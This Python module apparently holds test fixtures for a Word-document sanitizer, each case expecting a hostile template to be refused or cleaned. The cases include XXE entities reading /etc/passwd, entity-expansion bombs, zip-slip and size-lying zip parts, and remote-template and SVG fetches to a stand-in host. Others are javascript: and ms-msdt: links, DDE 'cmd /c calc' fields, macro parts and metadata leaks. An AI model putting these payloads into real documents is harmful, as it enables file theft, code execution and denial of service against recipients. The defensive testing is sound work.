"""Templates that a stranger built to run something, to fetch it, or to be endless."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable

from package_edits import (
    BODY,
    HEADER,
    OFFICE,
    ROOT,
    SETTINGS,
    TYPES,
    WORD_TYPE,
    Parts,
    added,
    all_of,
    footer,
    line,
    linked,
    links_of,
    put,
    run,
    zipped,
)
from template_shape import Shape
from word_pieces import field, note, picture, shown

_OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 2040
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">{}</svg>'
_INCLUDE = '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
_FAR = "https://far.example/a"
WHO = "Perpetua Quill"
PICTURE, FILE, LINK, OBJECT = "a picture that is not", "another file", "a link that", "an object"


def typed(part: str, entity: str) -> Callable[[Parts], Parts]:
    """A part that declares a type of its own, with an entity."""

    def change(parts: Parts) -> Parts:
        xml = parts[part]
        end = xml.index(b"?>") + 2
        declared = f"<!DOCTYPE a [{entity}]>".encode()
        return {**parts, part: xml[:end] + declared + xml[end:]}

    return change


def svg(inside: str) -> Callable[[Parts], Parts]:
    return all_of(
        added("word/media/a.svg", _SVG.format(inside), "image/svg+xml"),
        linked("rIdSvg", "image", "media/a.svg"),
        line(picture("rIdSvg")),
    )


def far(kind: str, element: str, target: str = _FAR, part: str = BODY) -> Callable[[Parts], Parts]:
    """Something that is led to outside of the file, and asked for by its id."""
    asked = element.format(f'xmlns:r="{OFFICE}" r:id="rIdFar"')
    return all_of(linked("rIdFar", kind, target, part, outside=True), line(asked, part))


def link(target: str) -> Shape:
    change = far("hyperlink", f"<w:hyperlink {{}}>{run('here')}</w:hyperlink>", target)
    return Shape(f"a link to {target}", change, refused=(LINK, "“here”"))


def named_twice(parts: Parts) -> bytes:
    file = io.BytesIO(zipped(parts))
    with warnings.catch_warnings(), zipfile.ZipFile(file, "a") as package:
        warnings.simplefilter("ignore")
        package.writestr(BODY, parts[BODY].replace(b"door", b"gate"))
    return file.getvalue()


def lying_size(parts: Parts) -> bytes:
    """A part that says it is small, and is not."""
    data = zipped({**parts, "word/big.xml": b"\0" * 3_000_000})
    return data.replace(struct.pack("<I", 3_000_000), struct.pack("<I", 30))


def gif() -> bytes:
    head = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff"
    remark = b"!\xfe" + bytes((len(WHO),)) + WHO.encode() + b"\0"
    return head + remark + b",\0\0\0\0\1\0\1\0\0\2\2D\1\0;"


def webp() -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)

    inside = b"WEBP" + chunk(b"VP8L", bytes.fromhex("2f00000000")) + chunk(b"EXIF", WHO.encode())
    return b"RIFF" + struct.pack("<I", len(inside)) + inside


def emf() -> bytes:
    words = f"{WHO}\0seal\0\0".encode("utf-16-le")
    head = struct.pack("<II", 1, 108 + len(words)) + bytes(32) + b" EMF" + bytes(16)
    return (head + struct.pack("<II", len(words) // 2, 108)).ljust(108, b"\0") + words


_LAUGHS = f'<!ENTITY lol "ha"><!ENTITY lol2 "{"&lol;" * 9}">'
_NO_WORD = "not a Word document"

PACKAGES = (
    # --- XML that reads what it should not, or grows ---
    Shape("an entity of a file in the body", all_of(line(run("&x;")), typed(BODY, '<!ENTITY x SYSTEM "file:///etc/passwd">')), refused=(_NO_WORD,)),
    Shape("an entity of the web in the head", typed(HEADER, f'<!ENTITY x SYSTEM "{_FAR}">'), refused=(_NO_WORD,)),
    Shape("entities of entities", all_of(line(run("&lol2;")), typed(BODY, _LAUGHS)), refused=(_NO_WORD,)),
    Shape("a type of their own for links", typed(links_of(BODY), '<!ENTITY x "y">'), refused=(_NO_WORD,)),
    Shape("a type of their own for types", typed(TYPES, '<!ENTITY x "y">'), refused=(_NO_WORD,)),
    Shape("a type of their own for settings", typed(SETTINGS, '<!ENTITY % x SYSTEM "file:///etc/hosts">'), refused=(_NO_WORD,)),
    Shape("a piece that is included", line(_INCLUDE), refused=(FILE,)),
    Shape("six hundred tables within each other", line("<w:tbl><w:tr><w:tc>" * 600 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 600), refused=("within each other",)),
    # --- the zip ---
    Shape("a part that is there twice", named_twice, refused=(_NO_WORD,)),
    Shape("a part in two spellings", added("word/DOCUMENT.xml", "<a/>", "application/xml"), refused=("there twice",)),
    Shape("a part outside of the file", lambda parts: {**parts, "../../evil.xml": b"<a/>"}, refused=(_NO_WORD,)),
    Shape("a part that lies about its size", lying_size, refused=(_NO_WORD,)),
    Shape("nothing but an end", lambda _: zipped({}), refused=(_NO_WORD,)),
    # --- what would be fetched ---
    Shape("a head from elsewhere", far("header", "<w:headerReference {}/>"), refused=(FILE,)),
    Shape("styles from elsewhere", linked("rIdFar", "styles", _FAR, outside=True), refused=(FILE,)),
    Shape("notes from elsewhere", linked("rIdFar", "footnotes", _FAR, outside=True), refused=(FILE,)),
    Shape("a font from elsewhere", linked("rIdFar", "font", _FAR, "word/fontTable.xml", outside=True), gone=(_FAR,)),
    Shape("a template from elsewhere", far("attachedTemplate", "<w:attachedTemplate {}/>", "https://far.example/t.dotm", HEADER), gone=("far.example",)),
    Shape("custom data from elsewhere", linked("rIdFar", "customXml", _FAR, outside=True), gone=(_FAR,)),
    Shape("a body of the package from elsewhere", linked("rIdFar", "officeDocument", _FAR, ROOT, outside=True), refused=(FILE,)),
    Shape("a picture of a share, linked", all_of(linked("rIdP", "image", "\\\\far\\a.png", outside=True), line(picture("rIdP", "link"))), refused=(PICTURE,)),
    Shape("a picture in a foot", all_of(footer(f"<w:p>{picture('rIdP', 'link')}</w:p>"), linked("rIdP", "image", _FAR, "word/footer7.xml", outside=True)), refused=(PICTURE,)),
    Shape("a background from elsewhere", line('<w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="https://far.example/b.png"/></v:rect></w:pict></w:r>'), refused=(PICTURE,)),
    Shape("an SVG that fetches", svg(f'<image x:href="{_FAR}"/>'), refused=(PICTURE,)),
    Shape("an SVG that fetches by its looks", svg(f"<style>@import url({_FAR});</style>"), refused=(PICTURE,)),
    Shape("an SVG that fills with what is far", svg(f'<rect fill="url({_FAR}#a)"/>'), refused=(PICTURE,)),
    Shape("an SVG that leads to a file", svg('<a x:href="file:///c:/a"/>'), refused=(LINK,)),
    Shape("an SVG that runs", svg('<script>evil()</script><rect onload="evil()"/>'), gone=("evil",)),
    Shape("an SVG that moves to what is far", svg(f'<image href="#a"><set attributeName="href" to="{_FAR}"/><animate values="a;{_FAR}"/></image>'), gone=("far.example",)),
    Shape("an SVG that holds a page", svg(f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{_FAR}"/></foreignObject>'), gone=("far.example",)),
    Shape("an SVG whose places lie elsewhere", svg(f'<g xml:base="{_FAR}"><use href="#a"/></g>'), gone=("far.example",)),
    Shape("an SVG within an SVG", svg(f'<image href="data:image/svg+xml;utf8,&lt;image href=&quot;{_FAR}&quot;/&gt;"/>'), refused=(PICTURE,)),
    # --- links ---
    *map(link, ("javascript:alert(1)", "vbscript:x", "data:text/html,x", "file:///c:/a", "ms-msdt:/id", "search-ms:query=x", "ftp://far.example/a", "smb://far/a", "https:///nowhere", "//far.example/a", "C:\\a.exe", "../a.docx")),
    Shape("a link of a field in the head", line(field(" HYPERLINK &quot;file:///c:/a&quot; ", "x"), HEADER), refused=(LINK, "the header")),
    Shape("a shape that is a link", line('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="javascript:x"/></w:pict></w:r>'), refused=(LINK,)),
    # --- what would run ---
    Shape("macros to which nothing leads", added("word/a.bin", _OLE, "application/vnd.ms-office.vbaProject"), gone=("vbaProject", "a.bin")),
    Shape("macros of a template", put(f"{WORD_TYPE}.document.main+xml", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml", TYPES), refused=("macros",)),
    Shape("data of macros", linked("rIdV", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vba.xml"), gone=("wordVbaData",)),
    Shape("an object that nothing shows", all_of(added("word/e.bin", _OLE, "application/vnd.openxmlformats-officedocument.oleObject"), linked("rIdE", "oleObject", "e.bin")), gone=("e.bin", "oleObject")),
    Shape("a file inside the file", all_of(added("word/e.docx", b"PK", f"{WORD_TYPE}.document"), linked("rIdE", "package", "e.docx"), line(picture("rIdE"))), refused=(OBJECT,)),
    Shape("an object in the head", line("<w:r><w:object/></w:r>", HEADER), refused=(OBJECT, "the header")),
    Shape("a control in a foot", footer('<w:p><w:r><w:control w:name="x"/></w:r></w:p>'), refused=("a control",)),
    Shape("DDE within another field", line(field(" IF 1 = 1 &quot;x&quot; ", "a") + field(" DDE cmd &quot;/c calc&quot; ", "b")), refused=(FILE,)),
    Shape("DDE in a footnote", all_of(note("footnote", "fine"), put("<w:r>", f"{field(' DDEAUTO cmd ', 'sum')}<w:r>", "word/footnotes.xml")), refused=(FILE, "footnote")),
    Shape("a program's own pane", linked("rIdW", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", _FAR, ROOT, outside=True), gone=(_FAR,)),
    Shape("a ribbon of its own", all_of(added("customUI/a.xml", "<a onLoad='evil'/>", "application/xml"), linked("rIdU", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/a.xml", ROOT)), gone=("evil",)),
    Shape("keys that call macros", all_of(added("word/keys.xml", "<a>evil</a>", "application/vnd.ms-word.keyMapCustomizations+xml"), linked("rIdK", "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations", "keys.xml")), gone=("evil",)),
    # --- what tells of somebody ---
    Shape("a GIF with a remark", shown("a.gif", gif(), "image/gif"), gone=(WHO,)),
    Shape("a WebP with Exif", shown("a.webp", webp(), "image/webp"), gone=(WHO,)),
    Shape("an EMF with a description", shown("a.emf", emf(), "image/x-emf"), gone=(WHO, WHO.encode("utf-16-le").decode("latin-1"))),
    Shape("an SVG with the path of its file", svg(f'<g xmlns:s="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" s:docname="{WHO}"/><metadata>{WHO}</metadata>'), gone=(WHO,)),
    Shape("a session in a space of its own", put("<w:p>", f'<w:p xmlns:q="urn:q" q:rsidR="{WHO}">'), gone=(WHO,)),
    Shape("the tag of a control", line(f'<w:sdt><w:sdtPr><w:tag w:val="{WHO}"/></w:sdtPr><w:sdtContent>{run("x")}</w:sdtContent></w:sdt>'), gone=(WHO,)),
)  # fmt: skip
